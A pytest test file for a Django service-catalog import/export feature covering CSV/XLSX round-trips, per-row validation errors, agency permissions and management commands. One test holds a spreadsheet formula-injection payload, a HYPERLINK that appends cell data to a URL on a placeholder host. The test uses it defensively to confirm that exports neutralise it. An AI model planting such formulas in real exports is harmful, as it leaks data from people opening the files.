"""Moving a service catalog in and out as CSV or XLSX: all rows or none, with a per-row report."""

import csv
import io

import pytest
from django.core.management import CommandError, call_command
from django.test import Client
from django.utils import translation
from openpyxl import Workbook, load_workbook

from mpp.catalog import importexport
from mpp.catalog.models import Service

pytestmark = pytest.mark.django_db

IMPORT = "/admin/catalog/service/import/"
EXPORT = "/admin/catalog/service/export/"


def as_csv(rows: list[dict]) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


def snapshot():
    return sorted(Service.objects.values_list(
        "code", "name", "prefix", "walkin_quota", "requirements", "agency__slug"))


def row(**values) -> dict:
    base = {"agency": "disdukcapil", "code": "akta-lahir", "name": "Penerbitan Akta Kelahiran",
            "prefix": "A", "channels": "direct", "requirements": "Surat keterangan lahir; KK",
            "walkin_quota": "40", "online_quota": "", "bookable": "tidak", "active": "ya"}
    base.update(values)
    return base


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_then_import_round_trips(mall, fmt):
    content = importexport.services_export(site=mall.site, format=fmt)
    before = snapshot()
    Service.objects.filter(pk=mall.ktp.pk).update(name="Diubah", walkin_quota=1,
                                                  requirements=[])
    report = importexport.services_import(site=mall.site, content=content,
                                          filename=f"katalog.{fmt}")
    assert report.ok, report.as_text()
    assert sorted(report.updated) == sorted(code for code, *_ in before)
    assert report.created == []
    assert snapshot() == before
    ktp = Service.objects.get(pk=mall.ktp.pk)
    assert ktp.requirements == ["Fotokopi KK", "Surat pengantar RT/RW"]
    assert ktp.bookable and ktp.tracked and ktp.online_quota == 50


def test_exported_xlsx_has_the_documented_columns(mall):
    book = load_workbook(io.BytesIO(importexport.services_export(site=mall.site,
                                                                 format="xlsx")))
    rows = list(book.active.iter_rows(values_only=True))
    assert list(rows[0]) == importexport.COLUMNS
    assert len(rows) == 5


def test_import_creates_new_services_and_updates_existing(mall):
    content = as_csv([
        row(),
        row(code="kk-baru", name="Penerbitan KK", requirements="Buku nikah\nSurat pindah",
            walkin_quota=""),
    ])
    report = importexport.services_import(site=mall.site, content=content, filename="a.csv")
    assert report.ok, report.as_text()
    assert (report.created, report.updated) == (["akta-lahir"], ["kk-baru"])
    akta = Service.objects.get(code="akta-lahir")
    assert akta.agency == mall.disdukcapil and akta.requirements == [
        "Surat keterangan lahir", "KK"]
    assert akta.walkin_quota == 40 and not akta.bookable
    kk = Service.objects.get(code="kk-baru")
    assert kk.name == "Penerbitan KK" and kk.walkin_quota is None


def test_a_file_with_bad_rows_reports_each_and_writes_nothing(mall):
    content = as_csv([
        row(),  # row 2: fine on its own
        row(agency="bpn", code="sertifikat"),  # row 3: unknown agency
        row(code="akta-mati", walkin_quota="-5"),  # row 4: negative quota
        row(code="akta-lahir", name="Lagi"),  # row 5: the code of row 2 again
        row(code="kia", prefix="B"),  # row 6: Samsat's prefix
        row(code="kitas", name=""),  # row 7: no name
    ])
    before = snapshot()
    report = importexport.services_import(site=mall.site, content=content, filename="x.csv")
    assert not report.ok
    found = {(error.row, error.column) for error in report.errors}
    assert found >= {(3, "agency"), (4, "walkin_quota"), (5, "code"), (6, "prefix"),
                     (7, "name")}
    assert report.bad_rows == [3, 4, 5, 6, 7]
    assert "baris 2" in str(next(e for e in report.errors if e.row == 5))  # Indonesian first
    assert snapshot() == before
    assert not Service.objects.filter(code="akta-lahir").exists()


def test_two_agencies_given_one_new_prefix_in_the_file_is_an_error(mall):
    content = as_csv([row(prefix="Q"), row(agency="samsat", code="balik-nama", prefix="Q")])
    report = importexport.services_import(site=mall.site, content=content, filename="x.csv")
    assert [(e.row, e.column) for e in report.errors] == [(3, "prefix")]
    assert not Service.objects.filter(prefix="Q").exists()


def test_unknown_columns_and_unreadable_files_are_reported(mall):
    report = importexport.services_import(
        site=mall.site, content=as_csv([{**row(), "warna": "merah"}]), filename="x.csv")
    assert [(e.row, e.column) for e in report.errors] == [(1, "warna")]
    report = importexport.services_import(site=mall.site, content=b"PK\x03\x04rusak",
                                          filename="x.xlsx")
    assert not report.ok and report.errors[0].row == 0
    report = importexport.services_import(site=mall.site, content="é".encode("latin-1"),
                                          filename="x.csv")
    assert "UTF-8" in report.errors[0].message


def test_semicolon_separated_csv_from_excel_and_xlsx_with_numbers(mall):
    content = "agency;code;name;prefix;walkin_quota\ndisdukcapil;akta-lahir;Akta;A;30\n"
    report = importexport.services_import(site=mall.site, content=content.encode(),
                                          filename="x.csv")
    assert report.ok, report.as_text()
    book = Workbook()
    book.active.append(["agency", "code", "name", "prefix", "walkin_quota", "bookable"])
    book.active.append(["pln", "tambah-daya", "Tambah Daya", "C", 12, True])
    out = io.BytesIO()
    book.save(out)
    report = importexport.services_import(site=mall.site, content=out.getvalue(),
                                          filename="x.xlsx")
    assert report.ok, report.as_text()
    service = Service.objects.get(code="tambah-daya")
    assert service.walkin_quota == 12 and service.bookable


def test_an_agency_admin_imports_only_rows_of_their_agency(mall):
    content = as_csv([row(), row(agency="samsat", code="balik-nama", prefix="B"),
                      row(agency="disdukcapil", code="pkb-tahunan", prefix="A")])
    report = importexport.services_import(site=mall.site, content=content, filename="x.csv",
                                          actor=mall.users["hendra"])
    assert {(e.row, e.column) for e in report.errors} >= {(3, "agency"), (4, "agency")}
    assert 2 not in report.bad_rows
    assert not Service.objects.filter(code__in=["akta-lahir", "balik-nama"]).exists()


def test_admin_import_page_shows_the_report_table_or_the_summary(mall):
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.cookies["mpp_lang"] = "en"  # screens follow the language cookie
    client.force_login(mall.users["hendra"])
    assert client.get(IMPORT).status_code == 200
    bad = io.BytesIO(as_csv([row(), row(code="kia", walkin_quota="-1")]))
    bad.name = "katalog.csv"
    response = client.post(IMPORT, {"file": bad})
    page = response.content.decode()
    assert response.status_code == 200 and 'id="import-errors"' in page
    assert "walkin_quota" in page
    assert not Service.objects.filter(code="akta-lahir").exists()
    good = io.BytesIO(as_csv([row()]))
    good.name = "katalog.csv"
    response = client.post(IMPORT, {"file": good})
    assert 'id="import-summary"' in response.content.decode()
    assert Service.objects.get(code="akta-lahir").agency == mall.disdukcapil


def test_admin_export_gives_only_the_agency_admins_own_services(mall):
    client = Client()
    client.force_login(mall.users["hendra"])
    response = client.get(EXPORT + "?format=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    codes = {r["code"] for r in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))}
    assert codes == {"ktp-el-baru", "kk-baru"}
    response = client.get(EXPORT + "?format=xlsx")
    assert response.content[:2] == b"PK"
    client.force_login(mall.users["dewi"])
    assert client.get(EXPORT).status_code == 302  # to the login page


def test_commands_export_and_import(mall, tmp_path):
    target = tmp_path / "katalog.xlsx"
    call_command("exportservices", "kota-uji", "--format", "xlsx", "--output", str(target))
    assert target.read_bytes()[:2] == b"PK"
    out = io.StringIO()
    call_command("exportservices", "kota-uji", stdout=out)
    assert out.getvalue().startswith("agency,code,name,prefix")
    out = io.StringIO()
    with translation.override("en"):
        call_command("importservices", "kota-uji", str(target), stdout=out)
    assert "0 services created, 4 updated" in out.getvalue()


def test_import_command_fails_with_status_1_and_the_report_on_stderr(mall, tmp_path):
    bad = tmp_path / "rusak.csv"
    bad.write_bytes(as_csv([row(), row(code="kitas", name="")]))
    err = io.StringIO()
    with pytest.raises(CommandError) as raised, translation.override("en"):
        call_command("importservices", "kota-uji", str(bad), stderr=err)
    assert raised.value.returncode == 1
    assert "row 3, name" in err.getvalue()
    assert not Service.objects.filter(code="akta-lahir").exists()
    with pytest.raises(CommandError):
        call_command("importservices", "tidak-ada", str(bad))


def test_a_nul_in_a_cell_is_a_row_error_not_a_database_error(mall):
    """A CSV may carry a NUL byte (valid UTF-8): PostgreSQL refuses to store it, SQLite
    stores it; both report the cell and write nothing."""
    content = as_csv([row(name="Akta\x00Lahir")])
    before = snapshot()
    report = importexport.services_import(site=mall.site, content=content, filename="x.csv")
    assert [(e.row, e.column) for e in report.errors] == [(2, "name")]
    assert snapshot() == before


FORMULA = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik di sini")'


def test_a_service_named_like_a_formula_stays_text_in_both_exports(mall):
    """An agency admin names a service like a spreadsheet formula; the mall admin who opens
    the export in Excel must see that text, not run it; importing the file gives it back."""
    Service.objects.filter(pk=mall.ktp.pk).update(name=FORMULA, fee_note="+62 biaya @loket")

    sheet = load_workbook(io.BytesIO(importexport.services_export(site=mall.site,
                                                                  format="xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    assert len(cells) == 1 and cells[0].data_type == "s"  # a string cell, not a formula
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]

    text = importexport.services_export(site=mall.site, format="csv").decode("utf-8-sig")
    names = [r[importexport.COLUMNS.index("name")] for r in csv.reader(io.StringIO(text))]
    assert "'" + FORMULA in names and FORMULA not in names
    assert "'+62 biaya @loket" in text

    for fmt, content in (("csv", text.encode()), ("xlsx", importexport.services_export(
            site=mall.site, format="xlsx"))):
        Service.objects.filter(pk=mall.ktp.pk).update(name="Diubah", fee_note="")
        report = importexport.services_import(site=mall.site, content=content,
                                              filename=f"katalog.{fmt}")
        assert report.ok, report.as_text()
        ktp = Service.objects.get(pk=mall.ktp.pk)
        assert (ktp.name, ktp.fee_note) == (FORMULA, "+62 biaya @loket"), fmt
